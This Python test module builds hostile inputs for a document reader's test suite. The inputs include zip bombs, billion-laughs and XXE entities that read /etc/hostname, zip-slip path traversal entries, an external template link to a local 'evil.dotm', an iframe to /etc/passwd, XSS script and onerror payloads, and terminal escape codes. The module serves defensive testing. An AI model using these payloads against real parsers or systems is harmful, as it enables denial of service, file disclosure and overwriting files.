"""Hostile Word files, web pages and texts."""

import io
import struct
import zipfile

from tests.coi.readers.hostile import HELD, SENTENCE, Hostile
from tests.coi.readers.hostile_pdf import made
from tests.coi.readers.word.made import para, word_file

WORDS = [para(f"{SENTENCE} This is paragraph {n}.") for n in range(1, 6)]
NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
PAGE = "<!DOCTYPE html><html><head><title>t</title>{head}</head><body><main>{body}</main></body></html>"
LINES = "".join(f"<p>{SENTENCE} This is paragraph {n}.</p>" for n in range(1, 6))


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def with_document(xml):
    return zipped([("word/document.xml", xml)])


def bomb(megabytes):
    return with_document(b"<w:document>" + b" " * (megabytes * 1_000_000) + b"</w:document>")


def nested():
    data = bomb(50)
    for n in range(5):
        data = zipped([(f"word/{n}.zip", data), ("word/document.xml", data)])
    return data


def entity(declared, called):
    return with_document(
        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a0 "ha">{declared}]><w:document {NAMESPACE}><w:body>'
        f"<w:p><w:r><w:t>{SENTENCE} {called}</w:t></w:r></w:p></w:body></w:document>"
    )


def late_entity():
    """The declaration stands behind a comment of many kilobytes, where a look at the beginning misses it."""
    return with_document(
        f'<?xml version="1.0"?><!--{"x" * 9_000}--><!DOCTYPE w:document [<!ENTITY a0 "ha">{LAUGHS}]><w:document '
        f"{NAMESPACE}><w:body><w:p><w:r><w:t>{SENTENCE} &a11;</w:t></w:r></w:p></w:body></w:document>"
    )


def lying_sizes():
    """The directory says that a part is small; it is not."""
    data = bytearray(bomb(120))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 5_000)
    return bytes(data)


def locked_zip():
    data = bytearray(word_file(*WORDS))
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def other_package(kind):
    parts = {
        "odt": [("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<office:document-content/>")],
        "xlsx": [("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")],
        "zip": [("a.txt", SENTENCE)],
    }
    return zipped(parts[kind])


def nested_xml(deep):
    inside = "<w:tbl><w:tr><w:tc>" * deep + para(SENTENCE) + "</w:tc></w:tr></w:tbl>" * deep
    return with_document(f"<w:document {NAMESPACE}><w:body>{''.join(WORDS)}{inside}</w:body></w:document>")


def styles_in_a_circle():
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="s{n}"/><w:basedOn w:val="S{(n + 1) % 3}"/>'
        "</w:style>"
        for n in range(3)
    )
    body = "".join(para(SENTENCE, style=f"S{n}") for n in range(3))
    return zipped(
        [
            ("word/document.xml", f"<w:document {NAMESPACE}><w:body>{body}</w:body></w:document>"),
            ("word/styles.xml", f"<w:styles {NAMESPACE}>{styles}</w:styles>"),
        ]
    )


WORD_FILES = (
    made("Word file that unpacks to 300 MB", bomb, "unpacks to", 300, file="made.docx"),
    made("Word file of packages in packages", nested, "is not XML|unpacks to", file="made.docx"),
    made("Word file of 5 000 parts", word_file, "at most 2000", file="made.docx",
         more=[(f"word/{n}.xml", "") for n in range(5_000)]),
    made("Word file whose directory lies", lying_sizes, "damaged|unpacks", file="made.docx"),
    made("Word file of laughs", entity, "document type", LAUGHS, "&a11;", file="made.docx"),
    made("Word file that asks for a file", entity, "document type", '<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;",
         file="made.docx"),
    made("Word file with a late declaration", late_entity, "document type|not XML", file="made.docx"),
    made("Word file with macros", word_file, HELD, *WORDS, file="made.docm",
         more=[("word/vbaProject.bin", b"Sub x()")]),
    made("Word file that calls a template from outside", word_file, HELD, *WORDS, file="made.docx",
         more=[("word/_rels/settings.xml.rels", RELATIONS)]),
    made("Word file with paths that lead out", word_file, HELD, *WORDS, file="made.docx",
         more=[("/tmp/made-by-a-hostile-file", "x"), ("../../made-by-a-hostile-file", "x")]),  # noqa: S108
    made("Word file with a password", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000), "DOC file",
         file="made.docx"),
    made("package with locked parts", locked_zip, "is encrypted", file="made.docx"),
    *(made(f"{kind} called a Word file", other_package, "no Word file", kind, file="made.docx")
      for kind in ("odt", "xlsx", "zip")),
    made("Word file cut in the middle", lambda: word_file(*WORDS)[:-700], "damaged", file="made.docx"),
    made("Word file nested 20 000 deep", nested_xml, "", 20_000, file="made.docx"),
    made("Word file whose styles rest on one another", styles_in_a_circle, HELD, file="made.docx"),
    made("Word file with a paragraph of ten million letters", word_file, "at most 20000|unpacks to",
         para("a b " * 2_500_000), file="made.docx"),
)  # fmt: skip


def page(body=LINES, head="", around="{}"):
    return around.format(PAGE.format(head=head, body=body)).encode()


WEB_PAGES = (
    made("page nested 100 000 deep", page, "deep|elements|no paragraph", "<div>" * 100_000 + LINES, file="made.html"),
    made("page of nested tables", page, "deep|elements|no paragraph", "<table><tr><td>" * 60_000 + LINES,
         file="made.html"),
    made("page with an attribute of 20 MB", page, HELD, f'<p title="{"x" * 20_000_000}">{SENTENCE}</p>' + LINES,
         file="made.html"),
    made("page of a million elements", page, "more elements", "<b>x</b>" * 1_000_000, file="made.html"),
    made("page of entities", page, "at most 20000", "<p>a" + "&amp;" * 3_000_000 + "</p>", file="made.html"),
    made("page that leads away", page, HELD, head='<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">'
         '<base href="file:///etc/"><link rel="stylesheet" href="http://127.0.0.1:9/x.css">', file="made.html"),
    made("page of scripts and frames", page, HELD, f"<script>alert('hello')</script><iframe src='file:///etc/passwd'>"
         f"</iframe><object data='x.swf'></object><img src=x onerror=alert(1)>{LINES}", file="made.html"),
    made("page that never ends a comment", page, "no paragraph|HELD", "<!-- " + LINES, file="made.html"),
    made("page with null bytes", page, "", LINES.replace("crowd", "cr\0wd"), file="made.html"),
    made("page in an encoding that there is not", page, HELD, head='<meta charset="utf-99">', file="made.html"),
    made("XML of laughs called a page", lambda: f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a0 "ha">{LAUGHS}]>'
         f"<html><body>{LINES}<p>&a11;</p></body></html>".encode(), "", file="made.html"),
)  # fmt: skip

TEXT = "\n\n".join(f"{SENTENCE} This is paragraph {n}." for n in range(1, 6))


def text(name, data, ends, file="made.txt"):
    return Hostile(name, file, lambda: data() if callable(data) else data, ends)


TEXTS = (
    text("empty file", b"", "empty"),
    text("file of white space", b" \n\t\r\n" * 100_000, "empty"),
    text("text with null bytes", TEXT.replace("crowd", "cr\0wd").encode(), "U\\+0000"),
    text("UTF-16 without a mark", TEXT.encode("utf-16-le"), "U\\+0000|binary|UTF-16"),
    text("one line of 4 MB", lambda: b"word " * 800_000, "at most 20000|memory|seconds"),
    text("one word of 4 MB", lambda: b"a" * 4_000_000, "at most 20000|memory|seconds"),
    text("20 MB of empty lines", lambda: TEXT.encode() + b"\n" * 20_000_000 + TEXT.encode(), ""),
    text("a million lines", lambda: b"1. Guards fired.1 \n" * 1_000_000, ""),
    text("picture called a text", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "is a picture"),
    text("RTF called a Word file", b"{\\rtf1 " + TEXT.encode() + b"}", "RTF", "made.docx"),
    text("text called a PDF", TEXT.encode(), HELD, "made.pdf"),
    text("text with signs that command a terminal", ("\x1b[2J" + TEXT).encode(), "U\\+001B"),
    text("name that leads out", TEXT.encode(), HELD, "../../../etc/made.txt"),
)
OTHERS = (*WORD_FILES, *WEB_PAGES, *TEXTS)
